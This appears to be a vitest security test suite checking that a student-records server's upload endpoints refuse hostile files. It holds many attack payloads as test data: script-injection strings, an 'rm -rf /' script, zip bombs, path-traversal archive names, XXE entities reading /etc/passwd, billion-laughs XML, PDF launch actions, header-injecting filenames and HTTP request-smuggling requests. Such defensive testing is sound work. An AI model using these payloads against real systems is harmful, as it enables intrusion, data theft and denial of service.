import { randomUUID } from 'node:crypto'
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'
import { createAdaptorServer } from '@hono/node-server'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { api as certificates } from '../../src/modules/certificates/api.ts'
import { api as complaints } from '../../src/modules/complaints/api.ts'
import { api as documents } from '../../src/modules/documents/api.ts'
import { api as dossiers } from '../../src/modules/dossiers/api.ts'
import { api as students } from '../../src/modules/students/api.ts'
import { createApp } from '../../src/server/app.ts'
import { addStudent, portrait } from '../support/dossiers.ts'
import { accounts, orgs, type AccountName } from '../support/small-province.ts'
import { openWorld, type Client, type World } from '../support/world.ts'
import { zipBomb } from './malform.ts'
import { randomOf } from './random.ts'
import { operationsOf, request, type Operation } from './sample.ts'

const MB = 1024 * 1024
const home = mkdtempSync(join(tmpdir(), 'luban-uploads-'))
let world: World
let registrar: Client
let outsider: Client
let student: { enrollmentId: string }
let operations: Operation[]
beforeAll(async () => {
  process.env.LUBAN_HOME = home
  world = await openWorld()
  ;[registrar, outsider] = [await world.as('qingchengRegistrar'), await world.as('fujiangRegistrar')]
  student = await addStudent(world, { name: '李佳', birthDate: '2004-03-01' })
  operations = operationsOf((await (await world.anyone.raw('/api/openapi.json')).json()) as Parameters<typeof operationsOf>[0])
})
afterAll(async () => {
  await world.close()
  rmSync(home, { recursive: true, force: true })
})

const bytesOf = (text: string) => new Uint8Array(Buffer.from(text))
const zip = (files: Record<string, Uint8Array | string>) => zipSync(Object.fromEntries(Object.entries(files).map(([name, one]) => [name, typeof one === 'string' ? bytesOf(one) : one])))
const sheet = (rows: string, more: Record<string, string | Uint8Array> = {}) =>
  zip({
    '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    '_rels/.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    'xl/workbook.xml': '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml': rows,
    ...more,
  })
const docx = (more: Record<string, string | Uint8Array> = {}) => zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more })
const rowOf = (text: string) => `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`

const storedFiles = async () => (await world.sql<{ n: number }>('select count(*)::int as n from stored_file'))[0]!.n
const onDisk = () => (existsSync(join(home, 'files')) ? readdirSync(join(home, 'files'), { recursive: true, withFileTypes: true }).filter((one) => one.isFile()).length : 0)

/** Somebody who may do it. */
async function clientFor(operation: Operation): Promise<Client | undefined> {
  if (operation.needs === 'public') return world.anyone
  const name = (Object.keys(accounts) as AccountName[]).find((one) => world.composition.permissionsOf(accounts[one].role).has(operation.needs))
  return name && (await world.as(name))
}

let turn = 0
/** Sends a file to an upload, with everything else as its contract asks. */
async function upload(operation: Operation, bytes: Uint8Array, filename: string) {
  const client = await clientFor(operation)
  if (!client) return undefined
  const { path } = request(operation, randomOf(turn++), { orgNo: orgs.qingcheng, fields: { filename } })
  const begun = performance.now()
  const answer = await client.raw(path, { method: operation.method, headers: { 'idempotency-key': randomUUID() }, body: bytes as Uint8Array<ArrayBuffer> }, `10.${(turn >> 8) % 250}.${turn % 250}.1`)
  return { status: answer.status, text: await answer.text(), took: performance.now() - begun }
}

/** What is not what it is called; none of it may be taken anywhere. */
const disguised: Record<string, () => Uint8Array> = {
  '网页': () => bytesOf('<!DOCTYPE html><html><script>alert(1)</script></html>'),
  '网页，前面有空白和标记': () => bytesOf('\ufeff \r\n<html onload=alert(1)>'),
  '矢量图里的脚本': () => bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'),
  '带声明的矢量图': () => bytesOf('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
  '脚本': () => bytesOf('alert(document.cookie)'),
  '程序': () => new Uint8Array(Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(400)])),
  '命令': () => bytesOf('#!/bin/sh\nrm -rf /\n'),
  '旧格式的办公文件': () => new Uint8Array(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])),
  '只有开头的图片': () => new Uint8Array(Buffer.from('ffd8ffe000104a46494600', 'hex')),
  '只有开头的 PDF': () => bytesOf('%PDF-1.7\n'),
  '空文件': () => new Uint8Array(),
}

/** Whether an answer of 200 says that nothing of the file was taken: a check that lists problems, an archive of which no file fits. */
const tookNothing = (text: string) => /"plan":null.*"problems":\[\{/.test(text) || /"(matched|sent)":0,/.test(text)

test('每个上传接口：网页、矢量图、脚本、程序、旧格式、半截的和空的文件，改成对的名字也不收；说明原因，什么也没有存', async () => {
  const uploads = operations.filter((one) => one.upload)
  expect(uploads.length).toBeGreaterThan(30)
  const before = [await storedFiles(), onDisk()]
  const taken: string[] = []
  let refused = 0
  for (const operation of uploads) {
    for (const [what, make] of Object.entries(disguised)) {
      const answer = await upload(operation, make(), '证明.jpg')
      if (!answer) continue
      if ((answer.status < 400 && !tookNothing(answer.text)) || answer.status >= 500 || !/[一-鿿][^"]*。/.test(answer.text)) taken.push(`${operation.id} ${what}: ${answer.status} ${answer.text.slice(0, 160)}`)
      if (answer.status === 400 || answer.status === 413 || answer.status === 422) refused += 1
    }
  }
  expect(taken).toEqual([])
  // The others look for their record first, which is not there.
  expect(refused).toBeGreaterThan(150)
  expect([await storedFiles(), onDisk()]).toEqual(before)
}, 180_000)

/** Honest about its size, and grown a thousandfold. */
const grown = (name: string) => {
  const content = Buffer.alloc(120 * MB, '<row r="1"/>')
  return zipWith(name, deflateRawSync(content, { level: 9 }), content.length)
}

function zipWith(name: string, packed: Buffer, size: number, entries = 1): Uint8Array {
  const local = Buffer.alloc(30 + name.length)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(size, 22)
  local.writeUInt16LE(name.length, 26)
  local.write(name, 30)
  const central = Buffer.alloc(46 + name.length)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(8, 10)
  central.writeUInt32LE(packed.length, 20)
  central.writeUInt32LE(size, 24)
  central.writeUInt16LE(name.length, 28)
  central.write(name, 46)
  const types = '[Content_Types].xml'
  const second = Buffer.alloc(46 + types.length)
  second.writeUInt32LE(0x02014b50, 0)
  second.writeUInt16LE(types.length, 28)
  second.write(types, 46)
  const directory = Buffer.concat([...Array.from({ length: entries }, () => central), second])
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries + 1, 8)
  end.writeUInt16LE(entries + 1, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(local.length + packed.length, 16)
  return new Uint8Array(Buffer.concat([local, packed, directory, end]))
}

const bombs: Record<string, () => Uint8Array> = {
  '谎报大小': () => zipBomb(),
  '如实写大小、放大一千倍': () => grown('xl/worksheets/sheet1.xml'),
  '放大一千倍的共享字串': () => sheet(rowOf('a'), { 'xl/sharedStrings.xml': new Uint8Array(Buffer.alloc(60 * MB, '<si><t>a</t></si>')) }),
  '几万个部件': () => zipWith('xl/a.xml', deflateRawSync(Buffer.from('<a/>')), 4, 30_000),
  '套着的压缩包': () => zip({ 'xl/workbook.xml': '<workbook/>', '[Content_Types].xml': '<Types/>', 'a.zip': zip({ 'b.zip': zip({ 'c.txt': 'c' }) }) }),
  '指到外面的名字': () => zip({ '../../../../etc/cron.d/x': 'x', '/etc/passwd': 'x', 'C:\\windows\\x': 'x', 'xl/workbook.xml': '<workbook/>', '[Content_Types].xml': '<Types/>' }),
  '取本机文件的实体': () => sheet(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${rowOf('&b;')}`),
  '十亿个笑': () => sheet(`<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${'bcdefghij'.split('').map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>${rowOf('&j;')}`),
  '从外面取内容的实体': () => sheet(`<!DOCTYPE a SYSTEM "http://127.0.0.1:1/evil.dtd">${rowOf('x')}`),
  '到第九千万行的表': () => sheet('<worksheet><sheetData><row r="99999999"><c r="XFD99999999"><v>1</v></c></row></sheetData></worksheet>'),
}

test('每个收表格和压缩包的接口：炸弹、外面的名字、实体、几万个部件，五秒内拒绝；取不到文件，内存不涨上去', async () => {
  const uploads = operations.filter((one) => one.upload && /import|load|check|sheet|archive|scans|other-registers|exchange|templates|photos|file$/.test(one.path))
  expect(uploads.length).toBeGreaterThan(15)
  const before = [await storedFiles(), onDisk()]
  const odd: string[] = []
  let most = 0
  for (const [what, make] of Object.entries(bombs)) {
    const bytes = make()
    // An empty sheet with a row far below is a file like any other: it is kept with the sentence that nothing was found.
    if (what === '到第九千万行的表') expect([await storedFiles(), onDisk()]).toEqual(before)
    for (const operation of uploads) {
      const answer = await upload(operation, bytes, '名册.xlsx')
      if (!answer) continue
      most = Math.max(most, answer.took)
      if ((answer.status < 400 && !tookNothing(answer.text)) || answer.status >= 500 || /root:|哈哈哈哈哈哈哈哈哈哈哈/.test(answer.text) || answer.took > 5000) odd.push(`${operation.id} ${what}: ${answer.status} ${answer.took.toFixed(0)} 毫秒 ${answer.text.slice(0, 160)}`)
    }
  }
  expect(odd).toEqual([])
  expect(process.memoryUsage().rss / MB).toBeLessThan(2000)
  expect(existsSync('/etc/cron.d/x')).toBe(false)
  console.log(`炸弹类文件最慢的一次答复 ${most.toFixed(0)} 毫秒`)
}, 180_000)

test('宏、外部链接、嵌入的文件、藏起来的实体：表格和 Word 都不收', async () => {
  const roster = (bytes: Uint8Array) => registrar.send(students.checkRoster, { filename: '名册.xlsx' }, { file: { name: '名册.xlsx', bytes } })
  expect((await roster(sheet(rowOf('姓名'), { 'xl/vbaProject.bin': 'x' }))).problem.message).toContain('带有宏')
  expect((await roster(sheet(`<!DOCTYPE a [<!ENTITY b "x">]>${rowOf('&b;')}`))).problem.message).toContain('实体')
  expect((await roster(sheet(`<!--${' '.repeat(5000)}--><!DOCTYPE a [<!ENTITY b "x">]>${rowOf('&b;')}`))).problem.message).toContain('实体')
  expect((await roster(sheet(rowOf('a'), { 'xl/styles.xml': new Uint8Array(Buffer.from('\ufeff<?xml version="1.0"?><!DOCTYPE a>', 'utf16le')) }))).problem.message).toContain('UTF-8')
  const template = async (bytes: Uint8Array) => (await (await world.as('provinceOfficer')).send(documents.tryTemplate, { kind: (await firstKind()), filename: '模板.docx' }, { file: { name: '模板.docx', bytes } })).problem.message
  const external = (type: string) => `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
  expect(await template(docx({ 'word/vbaProject.bin': 'x' }))).toContain('带有宏')
  expect(await template(docx({ 'word/_rels/settings.xml.rels': external('attachedTemplate') }))).toContain('引用了文件以外的内容')
  expect(await template(docx({ 'word/_rels/document.xml.rels': external('image') }))).toContain('引用了文件以外的内容')
  expect(await template(docx({ 'word/embeddings/oleObject1.bin': 'x' }))).toContain('嵌有别的文件')
  const evidence = async (text: string) => (await registrar.send(certificates.uploadCertificateFile, { filename: '证明.pdf' }, { file: { name: '证明.pdf', bytes: bytesOf(`%PDF-1.7\n${text}\n%%EOF\n`) } })).problem.message
  for (const [text, why] of [['1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj', '脚本'], ['1 0 obj<</S/Launch/F(cmd.exe)>>endobj', '启动程序'], ['1 0 obj<</EmbeddedFiles 2 0 R>>endobj', '嵌有别的文件'], ['1 0 obj<</S/J#61vaScript>>endobj', '脚本']] as const) expect(await evidence(text)).toContain(why)
})

const firstKind = async () => (await (await world.as('provinceOfficer')).ok(documents.listDocumentKinds, {})).kinds[0]!.id

const send = (client: Client, bytes: Uint8Array, filename: string) => client.send(dossiers.uploadPhoto, { enrollmentId: student.enrollmentId }, { file: { name: filename, bytes } })
const shown = (client: Client, enrollmentId = student.enrollmentId) => client.send(dossiers.getPhoto, { enrollmentId })

test('一个文件两种读法：图片后面接网页或压缩包的，只留下图片；取出时是图片、是附件、不能运行', async () => {
  const picture = await portrait()
  const both = new Uint8Array(Buffer.concat([picture, Buffer.from('<html><script>alert(1)</script></html>'), zip({ 'a.txt': 'x' })]))
  expect((await send(registrar, both, '照片.html')).status).toBe(200)
  const back = await shown(registrar)
  expect(back.status).toBe(200)
  const content = Buffer.from(await back.bytes())
  expect(content.includes('<script>') || content.includes('PK\u0003\u0004')).toBe(false)
  expect(back.headers.get('content-type')).toBe('image/jpeg')
  expect(back.headers.get('x-content-type-options')).toBe('nosniff')
  expect(back.headers.get('content-disposition')).toMatch(/^attachment;/)
  expect(decodeURIComponent(back.headers.get('content-disposition')!.split("UTF-8''")[1]!)).toMatch(/\.html\.jpg$/)
  expect(back.headers.get('content-security-policy')).toContain('sandbox')
  expect(back.headers.get('content-security-policy')).toContain("default-src 'none'")
  expect(back.headers.get('cache-control')).toBe('no-store')
})

test('照片里的拍摄地点、时间、机型不留；投诉的照片也不留；佐证照原样保存', async () => {
  const gps = { IFD0: { Model: '手机X-9', Artist: '李四' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 39/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '104/1 4/1 0/1' } }
  const taken = new Uint8Array(await sharp(await portrait({ background: '#ffffff' })).withExif(gps).jpeg({ quality: 95 }).toBuffer())
  expect((await sharp(taken).metadata()).exif).toBeDefined()
  expect((await send(registrar, taken, '照片.jpg')).status).toBe(200)
  const kept = await (await shown(registrar)).bytes()
  expect((await sharp(kept).metadata()).exif).toBeUndefined()
  expect(Buffer.from(kept).includes('X-9')).toBe(false)
  const { trackingNo, code } = await world.anyone.ok(complaints.submitComplaint, { schoolNo: orgs.qingcheng, category: 'paid', text: '有人在校门口收钱，说交了钱就能上学，照片附后。', anonymous: true })
  expect((await world.anyone.send(complaints.addComplaintFile, { trackingNo, code }, { file: { name: '现场.jpg', bytes: taken } })).status).toBe(200)
  const sizes = await world.sql<{ purpose: string; bytes: number }>(`select purpose, bytes from stored_file where purpose in ('photo', 'complaint') order by created_at desc limit 2`)
  expect(sizes.map((one) => one.bytes)).toEqual([kept.byteLength, kept.byteLength])
  await registrar.ok(certificates.uploadCertificateFile, {}, { file: { name: '现场.jpg', bytes: taken } })
  expect(await world.sql('select 1 from stored_file where bytes = $1', [taken.byteLength])).toHaveLength(1)
})

test('文件名：路径、空字符、换行、倒着写的、引号、过长的，取出时都是一个平常的名字，响应头没有被拆开', async () => {
  const picture = await portrait()
  const names = ['../../etc/passwd.jpg', '..\\..\\windows\\a.jpg', '/etc/shadow', 'a\u0000.html.jpg', 'a\r\nSet-Cookie: x=1\r\n.jpg', '照片\u202Egpj.exe', '"; filename="evil.html', "a'*%00.jpg", `${'长'.repeat(199)}😀.jpg`, '.', '..', '', 'CON', 'a/b/', '<img src=x onerror=alert(1)>.jpg']
  for (const name of names) {
    const answer = await send(registrar, picture, name)
    if (answer.status === 400) {
      // A NUL in the address is refused as such.
      expect(answer.problem.message, JSON.stringify(name)).toMatch(/。$/)
      continue
    }
    expect(answer.status, JSON.stringify(name)).toBe(200)
    const back = await shown(registrar)
    expect(back.status, JSON.stringify(name)).toBe(200)
    const header = back.headers.get('content-disposition')!
    expect(header, JSON.stringify(name)).toMatch(/^attachment; filename="download"; filename\*=UTF-8''[\w.~%!'()*-]+$/)
    const given = decodeURIComponent(header.split("UTF-8''")[1]!)
    expect(given, JSON.stringify(name)).not.toMatch(/[\\/\p{Cc}\p{Cf}]/u)
    expect(given.length).toBeGreaterThan(0)
    expect(back.headers.get('set-cookie') ?? '').not.toContain('x=1')
  }
})

test('别的学校要这个文件，与没有这个文件一字不差；没有登录的 401', async () => {
  const foreign = await shown(outsider)
  const absent = await shown(outsider, randomUUID())
  expect([foreign.status, absent.status]).toEqual([404, 404])
  expect(foreign.problem).toEqual(absent.problem)
  expect((await shown(world.anyone)).status).toBe(401)
  expect((await send(outsider, await portrait(), '照片.jpg')).status).toBe(404)
})

test('分段发来的和谎报长度的：读到上限就停；表单格式、半截、两种长度都写的，不存也不垮', async () => {
  const path = `/api/dossiers/${student.enrollmentId}/photo`
  const begin = Buffer.from(await portrait())
  let sent = 0
  const endless = new ReadableStream<Uint8Array>({
    pull(controller) {
      sent += 1
      controller.enqueue(sent === 1 ? new Uint8Array(begin) : new Uint8Array(MB))
    },
  })
  const before = await storedFiles()
  const headers = { 'idempotency-key': randomUUID() }
  const stopped = await registrar.raw(path, { method: 'POST', headers, body: endless, duplex: 'half' } as RequestInit)
  expect(stopped.status).toBe(413)
  expect(((await stopped.json()) as { message: string }).message).toContain('10 MB')
  expect(sent, '读到的兆数').toBeLessThan(14)
  expect((await registrar.raw(path, { method: 'POST', headers: { 'idempotency-key': randomUUID(), 'content-length': String(11 * MB) }, body: begin })).status).toBe(413)
  const form = `--right\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n${begin.toString('latin1')}\r\n--right--\r\n`
  for (const boundary of ['right', 'wrong', '']) {
    const answer = await registrar.raw(path, { method: 'POST', headers: { 'idempotency-key': randomUUID(), 'content-type': `multipart/form-data; boundary=${boundary}` }, body: Buffer.from(form, 'latin1') })
    expect(answer.status, boundary).toBe(400)
  }
  expect((await send(registrar, new Uint8Array(begin.subarray(0, begin.length / 2)), '半截.jpg')).status).toBe(400)

  const app = createApp({ database: world.database, vault: world.vault, sessions: world.sessions, composition: world.composition })
  const server = createAdaptorServer({ fetch: app.fetch })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as { port: number }
  const raw = (text: string) =>
    new Promise<string>((done) => {
      let answer = ''
      const socket = connect(port, '127.0.0.1', () => socket.end(text))
      socket.setTimeout(8000, () => socket.destroy())
      socket.on('data', (chunk) => (answer += chunk.toString('latin1')))
      socket.on('error', () => undefined)
      socket.on('close', () => done(answer))
    })
  const head = `POST /api/public/complaints/files HTTP/1.1\r\nhost: 127.0.0.1\r\nidempotency-key: ${randomUUID()}\r\n`
  try {
    // Two lengths that contradict one another are how one request is hidden in another.
    expect(await raw(`${head}content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /api/session HTTP/1.1\r\nhost: x\r\n\r\n`)).toMatch(/^HTTP\/1.1 400/)
    expect(await raw(`${head}content-length: 5\r\ncontent-length: 50\r\n\r\nhello`)).toMatch(/^HTTP\/1.1 400/)
    expect(await raw(`${head}transfer-encoding: chunked\r\n\r\nZZ\r\nhello\r\n`)).not.toMatch(/^HTTP\/1.1 2/)
    expect(await raw(`${head}content-length: 100000\r\n\r\nhello`)).not.toMatch(/^HTTP\/1.1 2/)
    expect(await raw('GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n')).toMatch(/^HTTP\/1.1 200/)
  } finally {
    await new Promise((done) => server.close(done))
  }
  expect(await storedFiles()).toBe(before)
})
